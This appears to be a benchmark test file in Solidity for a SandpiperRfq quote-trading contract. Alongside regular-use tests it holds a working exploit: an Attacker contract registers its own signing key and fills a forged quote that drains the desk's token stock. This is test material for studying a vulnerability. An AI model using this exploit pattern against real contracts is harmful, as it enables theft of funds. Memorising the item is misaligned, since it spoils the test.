// SPDX-License-Identifier: MPL-2.0
pragma solidity 0.8.19;

import "./SandpiperRfq.sol";

// assay-canary-98200512-f25f-4d9a-951e-0283e2244a12

interface Vm {
    function prank(address sender) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function addr(uint256 key) external returns (address);
}

contract Token is IAsset {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant DESK_KEY = 0xD35C;
    uint256 internal constant ROTATED = 0x407A7ED;
    uint256 internal constant OWN_KEY = 0x77;
    uint256 internal constant STOCK = 5_870_000e6;

    Token internal usd;
    Token internal ether_;
    SandpiperRfq internal rfq;
    Attacker internal thief;
    address internal desk;
    SandpiperRfq.Quote internal forged;
    SandpiperRfq.Signature internal signed;

    function setUp() public {
        usd = new Token();
        ether_ = new Token();
        rfq = new SandpiperRfq();
        desk = vm.addr(DESK_KEY);
        usd.mint(desk, STOCK);
        vm.prank(desk);
        usd.approve(address(rfq), type(uint256).max);
        ether_.mint(address(this), 100e18);
        ether_.approve(address(rfq), type(uint256).max);

        // the attacker signs with a key of its own, which nobody has appointed
        thief = new Attacker(rfq, vm.addr(OWN_KEY));
        forged = SandpiperRfq.Quote(desk, address(thief), address(usd), address(ether_), STOCK, 0, type(uint256).max, 1);
        signed = _sign(OWN_KEY, forged);
    }

    function _sign(uint256 key, SandpiperRfq.Quote memory q) internal returns (SandpiperRfq.Signature memory) {
        bytes32 domain = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,uint256 chainId,address verifyingContract)"),
                keccak256("Sandpiper"),
                block.chainid,
                address(rfq)
            )
        );
        (uint8 v, bytes32 r, bytes32 s) =
            vm.sign(key, keccak256(abi.encodePacked(hex"1901", domain, rfq.hashOf(q))));
        return SandpiperRfq.Signature(v, r, s);
    }

    function test_Regular() public {
        SandpiperRfq.Quote memory q = SandpiperRfq.Quote(
            desk, address(this), address(usd), address(ether_), 30_000e6, 10e18, block.timestamp + 60, 5
        );
        SandpiperRfq.Signature memory sig = _sign(DESK_KEY, q);
        require(rfq.fillPart(q, 9_000e6, sig) == 3e18, "part");
        require(rfq.fill(q, sig) == 7e18, "rest");
        require(usd.balanceOf(address(this)) == 30_000e6 && ether_.balanceOf(desk) == 10e18, "swapped");
        (bool ok,) = address(rfq).call(abi.encodeCall(SandpiperRfq.fill, (q, sig)));
        require(!ok, "filled twice");

        // another key signs only once the desk has appointed it
        q.salt = 6;
        sig = _sign(ROTATED, q);
        (ok,) = address(rfq).call(abi.encodeCall(SandpiperRfq.fill, (q, sig)));
        require(!ok, "signed by a stranger");

        SandpiperRfq.Quote[] memory qs = new SandpiperRfq.Quote[](2);
        SandpiperRfq.Signature[] memory sigs = new SandpiperRfq.Signature[](2);
        qs[1] = q;
        qs[0] = SandpiperRfq.Quote(
            desk, address(this), address(usd), address(ether_), 3_000e6, 1e18, block.timestamp + 60, 8
        );
        (sigs[0], sigs[1]) = (_sign(DESK_KEY, qs[0]), sig);
        vm.prank(desk);
        rfq.cancel(q);
        require(rfq.fillMany(qs, sigs) == 1, "one of two");

        q.salt = 9;
        sig = _sign(DESK_KEY, q);
        vm.prank(desk);
        rfq.raiseSalt(10);
        (ok,) = address(rfq).call(abi.encodeCall(SandpiperRfq.fill, (q, sig)));
        require(!ok, "withdrawn");

        vm.prank(desk);
        rfq.setSigner(address(0x51), true);
        require(rfq.signsFor(desk, address(0x51)), "signer");
    }

    function exploit() public {
        thief.run(forged, signed);
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + STOCK, "nothing gained");
    }

    function target() public view returns (address) {
        return address(rfq);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Appoints its own key for itself and fills a quote that the desk never gave.
contract Attacker {
    SandpiperRfq internal rfq;
    address internal key;

    constructor(SandpiperRfq rfq_, address key_) {
        rfq = rfq_;
        key = key_;
    }

    function run(SandpiperRfq.Quote calldata q, SandpiperRfq.Signature calldata sig) external {
        rfq.setSigner(key, true);
        rfq.fill(q, sig);
    }
}
